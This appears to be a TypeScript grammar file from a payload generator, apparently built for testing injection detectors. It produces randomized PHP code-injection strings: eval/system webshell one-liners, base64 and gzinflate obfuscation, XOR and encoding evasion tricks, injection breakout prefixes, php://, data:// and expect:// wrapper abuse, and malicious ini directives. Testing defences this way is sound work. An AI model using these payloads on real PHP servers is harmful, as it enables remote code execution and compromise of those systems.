// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold "${" by nature
/** PHP code injection. */
import { lines, type Rules, words } from "../lib/grammar.ts";
import { PHP_FUNCTIONS, PHP_TELLING } from "./php-functions.ts";

export const PHP: Rules = {
  phpfn: [
    ["«phpbad»", 5],
    ["«phpmanual»", 4],
    ["«phpodd»", 2],
  ],
  phpmanual: PHP_FUNCTIONS,
  phptelling: PHP_TELLING,
  /** PHP does not mind the case of a function's name. */
  phpodd: (rng) => {
    const name = rng.pick(PHP_FUNCTIONS);
    if (rng.chance(0.2)) return name.toUpperCase();
    if (rng.chance(0.2)) return name.charAt(0).toUpperCase() + name.slice(1);
    return name.replace(/[a-z]/g, (c) => (rng.chance(0.4) ? c.toUpperCase() : c));
  },
  /** What may stand between a function and its parenthesis. */
  phpgap: [
    " ",
    " ",
    "  ",
    "«tab»",
    "«nl»",
    "/**/",
    "/*«rnd»*/",
    " /*«rnd» «rnd»*/ ",
    "//«rnd»«nl»",
    "#«rnd»«nl»",
    "%20",
    "%0a",
    "%09",
    "/*«int»*/",
    " «tab» ",
  ],
  phpbad: words`
    system system exec shell_exec passthru popen proc_open pcntl_exec eval assert assert preg_replace create_function call_user_func
    call_user_func_array array_map array_filter array_walk usort uasort uksort array_reduce array_diff_ukey array_udiff array_uintersect_assoc array_walk_recursive
    register_shutdown_function register_tick_function ob_start iterator_apply forward_static_call set_error_handler spl_autoload_register
    file_get_contents file_put_contents fopen fread fwrite fputs fgets readfile show_source highlight_file php_strip_whitespace file
    parse_ini_file move_uploaded_file copy rename unlink rmdir mkdir chmod chown tempnam tmpfile glob scandir opendir readdir dir is_file
    phpinfo phpinfo phpversion php_uname getenv putenv ini_set ini_get ini_get_all get_cfg_var getcwd getmyuid get_current_user sys_getloadavg posix_getpwuid
    posix_getuid posix_kill posix_mkfifo base64_decode base64_encode gzinflate gzuncompress gzdecode str_rot13 strrev hex2bin bin2hex chr ord pack unserialize
    serialize var_dump var_export print_r debug_zval_refcount error_log syslog mail curl_init curl_exec fsockopen pfsockopen stream_socket_client stream_context_create
    socket_create socket_connect dl extract parse_str import_request_variables define constant die exit print echo include include_once require require_once
    allow_url_include is_callable func_get_args function_exists get_defined_vars getlastmod session_start setcookie header md5_file sha1_file
    hash_hmac_file imagecreatefromgif exif_read_data simplexml_load_file simplexml_load_string xml_parser_create mysql_query mysqli_query pg_query sqlite_query
    ftp_connect ftp_get ftp_put ldap_connect apache_setenv apache_child_terminate highlight_string set_time_limit sleep usleep time_nanosleep
    array_intersect_uassoc escapeshellcmd lcg_value mb_ereg_replace mb_eregi_replace ReflectionFunction ReflectionClass SplFileObject ArrayObject
    zip_open bzopen gzopen readgzfile gzfile ob_get_contents ignore_user_abort assert_options get_loaded_extensions openlog proc_nice runkit_function_rename
    uopz_set_return openssl_pkey_export_to_file mcrypt_decrypt inotify_init eio_open win_shell_execute win32_create_service yaml_parse_url event_buffer_new`,
  superglobal: [
    "$_GET",
    "$_POST",
    "$_REQUEST",
    "$_COOKIE",
    "$_SERVER",
    "$_FILES",
    "$_SESSION",
    "$_ENV",
    "$GLOBALS",
    "$HTTP_RAW_POST_DATA",
    "$HTTP_GET_VARS",
    "$argv",
    "$_SERVER['HTTP_«Letter»«rnd»']",
    "${_GET}",
    "$_«GET|POST»[«rnd2»]",
    "$HTTP_SERVER_VARS",
    "$_FILES['«rnd»']['tmp_name']",
  ],
  phparg: [
    "'«look»'",
    "'«unix»'",
    '"«look»"',
    "«superglobal»['«rnd2»']",
    "«superglobal»[«rnd»]",
    "«int»",
    "'«unixfile»'",
    "'«rnd»'",
    "base64_decode('«base64»')",
    "«»",
    "$«rnd2»",
    "chr(«ascii»).chr(«ascii»).chr(«ascii»)",
    "__FILE__",
    "dirname(__FILE__)",
    "'«url»'",
    "md5(«int»)",
    "-1",
    "«phpfn»()",
    '"\\x«hex2»\\x«hex2»\\x«hex2»"',
    "'«rnd»'.'«rnd»'",
    "strrev('«rnd»')",
    "$_GET[0]",
  ],
  ascii: (rng) => String(rng.int(40, 122)),
  phpcall: [
    ["«phpfn»(«phparg»)", 12],
    ["«phpfn»(«phparg»,«phparg»)", 3],
    ["@«phpfn»(«phparg»)", 2],
    ["«phpfn»«phpgap»(«phparg»)", 4],
    ["«phpfn»«phpgap»(«phparg»,«phparg»)", 1],
    ["«phpmanual»(«phparg»)", 3],
    ["\\«phpfn»(«phparg»)", 0.5],
    ["«superglobal»['«letter»']($«letter»)", 1],
    ["$«letter»(«superglobal»['«letter»'])", 1],
    ["$«rnd»(«phparg»)", 0.7],
    ["$«rnd2»['«rnd2»']($«rnd2»)", 0.5],
    ["$$«rnd»(«phparg»)", 0.4],
    ["$_GET['«letter»']($_«GET|POST|COOKIE»['«letter»'])", 1],
    ["${'_'.'GET'}['«letter»'](${'_'.'GET'}['«letter»'])", 0.3],
    ['${"_«GET|POST|SERVER»"}[«letter»](«phparg»)', 0.4],
    ["$GLOBALS['«rnd»']['«rnd»'](«phparg»)", 0.4],
    ["[$«rnd2»,'«rnd»'](«phparg»)", 0.3],
    [
      "new «ReflectionFunction|SplFileObject|DirectoryIterator|SimpleXMLElement|SoapClient|PDO|Imagick|FilesystemIterator|GlobIterator|finfo|ZipArchive»(«phparg»)",
      1.5,
    ],
    ["«Closure::fromCallable|FFI::cdef|Phar::mapPhar|Error::__construct»(«phparg»)", 0.4],
    ["«include|require|include_once|require_once» «phparg»", 1],
    ["«include|require»«phpgap»«superglobal»[«letter»]", 0.6],
    ["echo«phpgap»«phparg»", 0.7],
    ["print«phpgap»«phparg»", 0.4],
    ["throw new Exception(«phparg»)", 0.3],
    ["function «rnd»($«letter»){«phpfn»(«phparg»);}", 0.6],
    ["(fn($«letter»)=>«phpfn»($«letter»))(«phparg»)", 0.3],
    ["unset($«rnd»)", 0.2],
    ["list($«letter»,$«letter»)=«phparg»", 0.2],
    ["declare(ticks=«small»)", 0.2],
    ["«phpfn»/**/(«phparg»)", 0.7],
    ["«phpfn» /*«rnd»*/ («phparg»)", 1],
    ["«phpfn»«nl»(«phparg»)", 0.5],
    ["«phpfn»//«rnd»«nl»(«phparg»)", 0.3],
    ["«phpfn»#«rnd»«nl»(«phparg»)", 0.3],
    ["«superglobal»['«rnd2»'](«phparg»)", 1],
    ["«superglobal»[«digit»](«superglobal»[«digit»])", 1],
    ["('«rnd»'.'«rnd»')(«phparg»)", 1],
    ['"«phpfn»"(«phparg»)', 1],
    ["(«phpfn»)(«phparg»)", 1],
    ["(sy.(st).em)(«look»)", 0.5],
    ["['«phpfn»'][0](«phparg»)", 0.5],
    ["$«v=rnd2»='«phpfn»';$«$v»(«phparg»)", 1],
    ["$«v=rnd2»=«superglobal»;$«$v»['«letter»']($«$v»['«letter»'])", 1],
    ["${«phpfn»(«phparg»)}", 1],
    ["{${«phpfn»(«phparg»)}}", 1],
    ["${@«phpfn»(«phparg»)}", 1],
    ["`«look»`", 1],
    ["(new «Rnd»)->«rnd»(«phparg»)", 0.5],
    ["«Rnd»::«phpfn»(«phparg»)", 0.4],
    ["print(md5(«int»))", 1],
    ["echo md5('«rnd»');die", 1],
    ['$_="`{{{"^"?<>/";${$_}[_](${$_}[__])', 0.5],
    ["(~%8F%97%8F%96%91%99%90)()", 0.3],
    ["«phpfn»", 0.4],
  ],
  php: lines`
    «phpfn»(
    «phpfn»«phpgap»(
    «phpmanual»()
    «phpmanual»(«phparg»)
    «phpodd»(«phparg»)
    «phptelling»
    «phptelling»«phpgap»
    «phptelling»;
    «rnd»=«phptelling»
    «phptelling»[]
    <?=
    <?=«phpfn»(«phparg»)
    <?= «superglobal»['«rnd»'] ?>
    <?=$«rnd»?>
    <?php
    <?PHP «phpcall»;
    <?pHp «rnd»
    <?php//«rnd»«nl»«phpcall»
    <?php/**/«phpcall»;
    <? «phpcall»
    <? «rnd» ?>
    ?><?php «phpcall»
    ?>«rnd»<?=«phpcall»
    «rnd»<?php «phpcall»
    [php]«phpcall»
    [/php]
    [php]«rnd»[/php]
    [PHP] «phpcall» [/PHP]
    [\php]«rnd»
    <script language=php>«phpcall»
    <php>«phpcall»</php>
    «phpdirective» = «phpini»
    «phpdirective»=«phpini»
    «phpdirective»=«phpini»
    «phpdirective»%3d«phpini»
    -d «phpdirective»=«phpini» -d «phpdirective»=«phpini»
    --define «phpdirective»=«phpini»
    ini_«set|get|restore|alter»(«q»«phpdirective»«q»,«q»«phpini»«q»)
    php_«value|flag|admin_value» «phpdirective» «phpini»
    PHP_VALUE=«phpdirective»=«phpini»
    «rnd»=«phpwrapper»
    «phpwrapper»
    «phpwrapper»
    \${«superglobal»[«rnd»]}
    «superglobal»[«q»«rnd»«q»]=«int»
    $«rnd»=«phpcall»
    $«rnd»->«rnd»(«phparg»)
    @«phpfn»«phpgap»(«phparg»)
    «phpcall»;?>
    «rnd»(«phpcall»)
    <?php «phpcall»; ?>
    <?php «phpcall»;?>
    <?php «phpcall»;«phpcall»; ?>
    <?php «phpcall»
    <?=«phpcall»?>
    <?=«bt»«look»«bt»?>
    <? «phpcall»; ?>
    <?php echo «bt»«superglobal»[«rnd»]«bt»; ?>
    <?php @eval(«superglobal»['«rnd»']);?>
    <?php @eval(base64_decode('«base64»'));?>
    <?php if(isset(«superglobal»['«rnd2»'])){«phpcall»;} ?>
    <?php $«v=rnd2»="«rnd»";echo $«$v»; ?>
    <%«phpcall»%>
    <script language=«qq»php«qq»>«phpcall»</script>
    [php]«phpcall»[/php]
    «phpcall»;
    «phpcall»
    «phpcall»
    ;«phpcall»;
    ;«phpcall»;//
    ';«phpcall»;//
    ';«phpcall»;'
    ";«phpcall»;//
    '.«phpcall».'
    ".«phpcall»."
    '-«phpcall»-'
    ');«phpcall»;//
    ")«phpcall»;//
    ]);«phpcall»;//
    };«phpcall»;/*
    {\${«phpcall»}}
    \${«phpcall»}
    {{«phpcall»}}
    «int»;«phpcall»
    «rnd»;}«phpcall»;{
    /«rnd»/e
    preg_replace('/.*/e','«phpcall»','')
    {php}«phpcall»{/php}
    {if «phpcall»}{/if}
    eval(gzinflate(base64_decode('«base64»')));
    assert($_«GET|POST|REQUEST»['«rnd»'])
    auto_prepend_file=php://input
    «phpdirective»=«on|1|0|off|«unixfile»|«rnd»»
    «phpdirective»
    -d«_»«phpdirective»=«on|1|php://input»
    $«rnd»=«superglobal»
    «superglobal»
    «superglobal»['«rnd»']
    \${«superglobal»}
    GLOBALS[«rnd»]=«int»
    _SERVER[DOCUMENT_ROOT]=«url»
    ZEND_«rnd»
    O:«small»:"«Rnd»":«small»:{s:«small»:"«rnd»";s:«small»:"«rnd»";}`,
  phpini: [
    "«0|1|on|off|On|Off|none|true»",
    "«0|1|on|off»",
    "«phpwrapper»",
    "«unixfile»",
    "«url»",
    "«int»",
    "«rnd»",
    "«»",
    "«phpfn»",
    "/tmp/«rnd».so",
    "/«|tmp|etc|»",
  ],
  phpwrapper: lines`
    compress.«zlib|bzip2»://«unixfile|«url»|«rnd».gz|../«rnd»»
    zip://«unixfile|«rnd».zip|/tmp/«rnd».jpg|uploads/«rnd».png»«%23|#»«rnd».«php|txt»
    zip2://«rnd».zip
    bzip2://«unixfile»
    zlib://«rnd».gz
    glob://«/|/etc/|/tmp/|c:/|«rnd»»*
    ogg://«url|soundcard|«rnd».ogg»
    rar://«rnd».rar«%23|#»«rnd».php
    ssh2.«shell|exec|tunnel|sftp|scp»://«rnd»:«rnd»@«host»:22/«rnd|«unixfile»|xterm»
    ssh2://«host»
    expect://«look»
    expect://«gtfouse»
    expect:«gtfo»
    phar://«rnd».«phar|jpg|zip|png»/«rnd».«php|txt»
    phar:«unixfile»
    PHAR://./«rnd».«gif|tar»
    php://«input|stdin|output|memory|temp/maxmemory:«int»|fd/«small»|stdout|stderr»
    php:«//|/|»filter/«convert.base64-encode|string.rot13|read=string.toupper|zlib.deflate»/resource=«rnd|«unixfile»|index|config»«|.php»
    PhP://«input|filter»
    data:,<?php «phpcall»
    data:«text/plain|text/html|application/x-httpd-php»;base64,«base64»
    data://text/plain,<?=«phpcall»?>
    file://«unixfile»
    sftp://«host»/«rnd»
    smb://«host»/«rnd»
    zend.«rnd»://«rnd»
    mailto:«rnd»@«host»`,
  phpdirective: words`
    allow_url_include allow_url_include auto_prepend_file auto_append_file open_basedir extension_dir disable_functions disable_classes enable_post_data_reading
    assert.active assert.exception auto_detect_line_endings auto_globals_jit default_charset default_mimetype default_socket_timeout doc_root error_append_string
    error_reporting exif.decode_jis_intel expect.logfile expect.timeout fastcgi.impersonate filter.default gd.jpeg_ignore_warning hard_timeout highlight.string iconv.input_encoding
    ignore_repeated_errors ignore_user_abort imap.enable_insecure_rsh implicit_flush input_encoding intl.default_locale last_modified ldap.max_links log_errors magic_quotes_gpc mail.force_extra_parameters
    mail.log max_execution_time max_input_time max_input_vars mbstring.func_overload mysql.allow_persistent mysql.default_host mysqli.allow_local_infile mysqli.default_pw odbc.check_persistent
    opcache.enable opcache.file_cache open_basedir openssl.cafile output_buffering output_handler pcre.backtrack_limit pdo_odbc.connection_pooling pgsql.allow_persistent phar.cache_list phar.require_hash
    post_max_size realpath_cache_size register_argc_argv register_globals report_memleaks request_order safe_mode_exec_dir sendmail_from serialize_precision session.cookie_httponly session.gc_probability
    session.name session.referer_check session.save_handler session.serialize_handler session.upload_progress.enabled session.use_cookies session.use_trans_sid short_open_tag soap.wsdl_cache
    sql.safe_mode sqlite3.extension_dir syslog.ident sys_temp_dir sysvshm.init_mem tidy.default_config track_errors upload_max_filesize user_dir user_ini.filename variables_order xdebug.remote_host xdebug.remote_enable
    xsl.security_prefs yaml.decode_php zend.assertions zend.multibyte zend_extension_debug zlib.output_compression vld.execute com.allow_dcom apc.enabled browscap cli.pager curl.cainfo docref_ext
    allow_url_include allow_url_fopen auto_prepend_file auto_append_file safe_mode suhosin.simulation disable_functions open_basedir cgi.force_redirect
    cgi.redirect_status_env opcache.jit_buffer_size opcache.preload session.save_path session.auto_start upload_tmp_dir error_log error_prepend_string
    display_errors html_errors include_path extension zend_extension mail.add_x_header sendmail_path unserialize_callback_func assert.callback
    phar.readonly soap.wsdl_cache_dir uploadprogress.file.filename_template xbithack mbstring.internal_encoding memory_limit arg_separator.output
    zlib.output_handler curl.cainfo browscap date.timezone docref_root enable_dl engine expose_php file_uploads mysqli.default_socket odbc.default_db pcre.jit user_agent`,
};
